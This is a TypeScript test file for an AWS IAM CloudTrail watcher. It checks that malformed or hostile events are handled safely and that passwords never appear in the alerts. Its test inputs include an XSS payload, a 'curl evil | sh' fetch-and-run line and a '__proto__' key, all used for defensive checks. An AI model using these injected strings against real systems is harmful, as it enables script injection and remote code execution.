import { IAM } from "@aws-sdk/client-iam";
import { beforeEach, describe, expect, it } from "vitest";
import { published } from "../fixtures/cloudtrail-events.ts";
import { stackFor, toOperations } from "../support/stack.ts";

const context = stackFor({ WATCH: "true", WATCH_LEAVERS: "cut" });

beforeEach(() => context.stack.aws.seed({ users: [{ UserName: "Mateo" }, { UserName: "ada" }] }));

const announce = (detail: object) =>
  context.stack.aws.announce("aws.iam", "AWS API Call via CloudTrail", detail as Record<string, unknown>);
const told = async () => {
  await context.stack.clock.advance(61_000);
  return toOperations(context.stack).map(({ Message }) => Message.split("\n\nAccount: ")[0]);
};
/** A message that is no event comes again until it is a dead letter. */
const unread = () => context.stack.functions.logs("watch").filter((line) => line.includes("a message cannot be read"));

describe("an event as AWS publishes it", () => {
  it.each(published)("is read right: $what, of $source", async ({ detail, told: what }) => {
    announce(detail);
    expect(await told()).toEqual(what === undefined ? [] : [expect.stringContaining(what)]);
    expect(unread()).toEqual([]);
  });
});

const createUser = {
  eventVersion: "1.11",
  userIdentity: { type: "IAMUser", arn: "arn:aws:iam::123456789012:user/bob", userName: "bob" },
  eventTime: "2026-11-20T02:00:00Z",
  ...{ eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey", awsRegion: "us-east-1" },
  ...{ sourceIPAddress: "192.0.2.7", userAgent: "aws-cli/2.31.0" },
  requestParameters: { userName: "ada" },
  responseElements: { accessKey: { userName: "ada", accessKeyId: "AKIAIOSFODNN7EXAMPLE", status: "Active" } },
  eventID: "e-1",
};
const markup = "<img src=x onerror=alert(1)>\n\nNext: curl evil | sh";
const wide = "x".repeat(200_000);

it("names the program that called, without what else that says of itself", async () => {
  announce({ ...createUser, userAgent: "aws-cli/2.31.0 md/Botocore#1.43 os/linux lang/python#3.11" });
  expect(await told()).toEqual([expect.stringContaining("from 192.0.2.7 (aws-cli/2.31.0), ")]);
});

describe("an event that is not as it should be", () => {
  it.each<[what: string, more: object, read?: string]>([
    ["without parameters", { requestParameters: null, responseElements: null }, "the access key"],
    ["whose answer is of another type", { responseElements: { accessKey: "AKIA", policy: [] } }, "ada: the access key"],
    [
      "whose parameters are numbers",
      { requestParameters: { userName: 7, status: {} } },
      "the access key …MPLE was created",
    ],
    [
      "of a caller without a name",
      { userIdentity: { type: "AWSService", invokedBy: "x.amazonaws.com" } },
      "By x.amazonaws.com",
    ],
    [
      "of a session without an issuer",
      { userIdentity: { type: "AssumedRole", sessionContext: {} } },
      "ada: the access key",
    ],
    [
      "of an issuer that is none",
      { userIdentity: { type: "AssumedRole", sessionContext: { sessionIssuer: null } } },
      "ada: ",
    ],
    ["of a year ago", { eventTime: "2025-11-20T02:00:00Z" }, "2025-11-20T02:00:00Z"],
    ["of the future", { eventTime: "2036-11-20T02:00:00Z" }, "2036-11-20T02:00:00Z"],
    ["as large as EventBridge takes it", { requestParameters: { userName: "ada", policyDocument: wide } }, "ada: "],
    [
      "with markup for an address",
      { sourceIPAddress: markup, userAgent: markup },
      "<img src=x onerror=alert(1)>\\u000a",
    ],
    ["with a name that no user can have", { requestParameters: { userName: markup } }, "the access key"],
    ["with the name of another object's member", { requestParameters: { userName: "__proto__" } }, "the access key"],
    [
      "with tags that are none",
      { eventName: "TagUser", requestParameters: { userName: "ada", tags: [null, 7, { key: "steward:owner" }] } },
      "steward:owner were set",
    ],
    [
      "of a group that no group can be called",
      { eventName: "CreateGroup", requestParameters: { groupName: markup } },
      "CreateGroup changed <img",
    ],
    ["without an id", { eventID: undefined }],
    ["with an id that is none", { eventID: markup }],
    ["without a time", { eventTime: "yesterday" }],
    ["of nobody", { userIdentity: undefined }],
    ["without a service", { eventSource: "iam.amazonaws.com", eventName: 7 }],
  ])("is told, or stays in the queue, and keeps no other from being told: %s", async (_, more, read) => {
    announce({ ...createUser, ...more });
    announce({ ...createUser, eventID: "e-2", userIdentity: { type: "Root", arn: "arn:aws:iam::123456789012:root" } });
    const [message, ...others] = await told();
    expect(others).toEqual([]);
    expect(message).toContain("the root user called iam:CreateAccessKey");
    expect(unread()).toHaveLength(read === undefined ? 1 : 0);
    if (read !== undefined) expect(message).toContain(read);
    expect(message?.split("\n").filter((line) => /^ *Next: /.test(line))).toHaveLength(read === undefined ? 1 : 2);
    expect(message?.length).toBeLessThan(4_000);
  });

  it("of an account that the stage does not serve is not told", async () => {
    const { aws, clock } = context.stack;
    const rule = aws.account.rules.find(({ name }) => name?.endsWith("-watched"));
    rule?.target({
      ...{
        version: "0",
        id: "1",
        "detail-type": "AWS API Call via CloudTrail",
        source: "aws.iam",
        region: "us-east-1",
      },
      ...{ account: "999999999999", time: "2026-11-20T02:00:00Z", resources: [], detail: createUser },
    });
    await clock.advance(61_000);
    expect([toOperations(context.stack), unread()]).toEqual([[], []]);
  });

  it("has no secret in it that is told", async () => {
    await new IAM(context.stack.aws.config).createLoginProfile({ UserName: "ada", Password: "s3cret-Word!!!x" });
    announce({
      ...createUser,
      eventName: "UpdateLoginProfile",
      requestParameters: { userName: "ada", password: "s3cret-Word" },
    });
    expect((await told()).join()).not.toContain("s3cret");
    expect(JSON.stringify(context.stack.functions.logs("watch"))).not.toContain("s3cret");
  });
});
